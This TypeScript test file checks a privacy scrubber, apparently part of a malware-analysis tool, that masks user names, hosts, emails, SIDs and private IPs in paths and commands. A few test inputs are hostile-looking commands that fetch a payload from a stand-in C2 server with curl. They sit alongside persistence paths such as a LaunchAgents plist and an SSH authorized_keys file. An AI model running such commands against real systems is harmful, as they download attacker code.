import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { scrubDocument, scrubString } from './scrub.js';

/** Golden list: input → what is stored. */
const GOLDEN: [string, string][] = [
  ['C:\\Users\\alice\\AppData\\Local\\Temp\\x.exe', 'C:\\Users\\<user>\\AppData\\Local\\Temp\\x.exe'],
  ['c:\\users\\Bob Smith\\Desktop\\inv.pdf.exe', 'c:\\users\\<user>\\Desktop\\inv.pdf.exe'],
  ['C:\\Users\\alice', 'C:\\Users\\<user>'],
  [
    'C:\\Documents and Settings\\jdoe\\Start Menu\\run.lnk',
    'C:\\Documents and Settings\\<user>\\Start Menu\\run.lnk',
  ],
  ['C:/Users/alice/Downloads/a.js', 'C:/Users/<user>/Downloads/a.js'],
  ['/home/alice/.cache/x', '/home/<user>/.cache/x'],
  ['/Users/bob/Library/LaunchAgents/com.evil.plist', '/Users/<user>/Library/LaunchAgents/com.evil.plist'],
  ['/root/.ssh/authorized_keys', '/root/.ssh/authorized_keys'],
  ['/usr/bin/python3', '/usr/bin/python3'],
  ['C:\\Windows\\System32\\cmd.exe', 'C:\\Windows\\System32\\cmd.exe'],
  ['\\\\fileserver01\\share\\tools\\x.exe', '\\\\<host>\\share\\tools\\x.exe'],
  ['\\\\fs.corp.example\\home$\\alice\\x.dll', '\\\\<host>\\home$\\alice\\x.dll'],
  ['\\\\?\\C:\\Users\\carol\\x.exe', '\\\\?\\C:\\Users\\<user>\\x.exe'],
  ['\\\\.\\PhysicalDrive0', '\\\\.\\PhysicalDrive0'],
  ['\\\\srv\\c$\\Users\\dave\\evil.exe', '\\\\<host>\\c$\\Users\\<user>\\evil.exe'],
  ['mail alice.smith+spam@example.co.uk now', 'mail <email> now'],
  ['Owner: S-1-5-21-3623811015-3361044348-30300820-1013', 'Owner: <sid>'],
  ['S-1-5-18', 'S-1-5-18'],
  ['"C:\\Users\\eve\\a.exe" --user=x', '"C:\\Users\\<user>\\a.exe" --user=<user>'],
  ['cmd /c set USERNAME=frank&& run', 'cmd /c set USERNAME=<user> run'],
  ['HOSTNAME=laptop-42 ./x', 'HOSTNAME=<host> ./x'],
  ['set COMPUTERNAME=EVE-PC&& set USERDOMAIN=CORP', 'set COMPUTERNAME=<host> set USERDOMAIN=<host>'],
  // Found by a helper's run: a long UNC path, a file: URL's host, hosts of a private zone, private addresses.
  ['\\\\?\\UNC\\fs01.corp.local\\share\\x.exe', '\\\\?\\UNC\\<host>\\share\\x.exe'],
  ['file://EVE-PC/c$/Users/eve/x.exe', 'file://<host>/c$/Users/<user>/x.exe'],
  ['file:///C:/Windows/x.exe', 'file:///C:/Windows/x.exe'],
  ['ssh build-host.corp.local && scp nas.lan:/x .', 'ssh <host> && scp <host>:/x .'],
  ['curl http://192.168.1.20/payload -o x', 'curl http://<ip>/payload -o x'],
  ['10.1.2.3, 172.16.0.9, 172.32.0.9, 169.254.1.1, 100.64.0.1', '<ip>, <ip>, 172.32.0.9, <ip>, <ip>'],
  // A public address (a server a command reaches) stays, as do versions and longer dotted numbers.
  ['curl http://203.0.113.7:8080/c2', 'curl http://203.0.113.7:8080/c2'],
  ['Windows 10.0.19041.1288, build 10.0.0.15.2', 'Windows 10.0.19041.1288, build 10.0.0.15.2'],
  ['java -Duser.home=/tmp -jar x.jar', 'java -Duser.home=/tmp -jar x.jar'],
  ['C:\\Users\\<user>\\x', 'C:\\Users\\<user>\\x'],
  ['copied to \\\\srv01\\tools\\x.exe', 'copied to \\\\<host>\\tools\\x.exe'],
  ['run "\\\\srv01\\tools\\x.exe"', 'run "\\\\<host>\\tools\\x.exe"'],
  // Separators escaped once more (a path copied from JSON or a log): still a profile, not a UNC host.
  ['C:\\\\Users\\\\alice\\\\Desktop\\\\shared.exe', 'C:\\\\Users\\\\<user>\\\\Desktop\\\\shared.exe'],
  ['', ''],
  ['plain text', 'plain text'],
];

describe('scrubbing (golden list)', () => {
  for (const [input, expected] of GOLDEN) {
    it(`${JSON.stringify(input)} → ${JSON.stringify(expected)}`, () => {
      assert.equal(scrubString(input), expected);
      assert.equal(scrubString(expected), expected, 'scrubbing is idempotent');
    });
  }

  it('scrubs every string of a document, at any depth, keys included, and leaves other values alone', () => {
    const doc = {
      kind: 'memory-region',
      path: 'C:\\Users\\alice\\x.exe',
      process: { pid: 42, image: '/home/bob/bin/x', args: ['--mail', 'x@y.org'] },
      ok: true,
      none: null,
      'C:\\Users\\carol': 1,
    };
    assert.deepEqual(scrubDocument(doc), {
      kind: 'memory-region',
      path: 'C:\\Users\\<user>\\x.exe',
      process: { pid: 42, image: '/home/<user>/bin/x', args: ['--mail', '<email>'] },
      ok: true,
      none: null,
      'C:\\Users\\<user>': 1,
    });
  });
});

describe('scrubbing time', () => {
  it('grows with the length of a string, not its square (64 Ki characters of what a rule may start in)', () => {
    // Before the bounds, each of these took 0.4–3.5 s for one rule (130–220 ms at 16 Ki characters).
    const hostile = {
      'dotted words': 'a.'.repeat(32_768),
      'dotted digits': '1.'.repeat(32_768),
      'dashed words': 'a-'.repeat(32_768),
      'plus signs': 'a+'.repeat(32_768),
      letters: 'abc'.repeat(21_845),
      backslashes: '\\'.repeat(65_536),
      slashes: '/'.repeat(65_536),
    };
    for (const [what, text] of Object.entries(hostile)) {
      const started = performance.now();
      const out = scrubString(text);
      const ms = performance.now() - started;
      assert.ok(ms < 400, `${what}: ${ms.toFixed(0)} ms`);
      assert.equal(out.length, text.length, `${what}: nothing to scrub in it`);
    }
  });

  it('still scrubs what the bounds allow: a 64-character local part, a name of many labels', () => {
    const local = 'a'.repeat(64);
    assert.equal(scrubString(`to ${local}@example.com now`), 'to <email> now');
    const labels = Array.from({ length: 100 }, (_, i) => `l${i}`).join('.');
    assert.equal(scrubString(`${labels}.corp`), '<host>');
    assert.equal(scrubString(`first.last@${labels}.org`), '<email>');
    // A local part longer than an address may have (64) keeps its head; the address itself goes.
    assert.equal(scrubString(`${'x'.repeat(70)}@example.com`), `${'x'.repeat(6)}<email>`);
    assert.equal(scrubString('\\\\\\\\Users\\\\alice\\\\x'), '\\\\\\\\Users\\\\<user>\\\\x');
  });
});
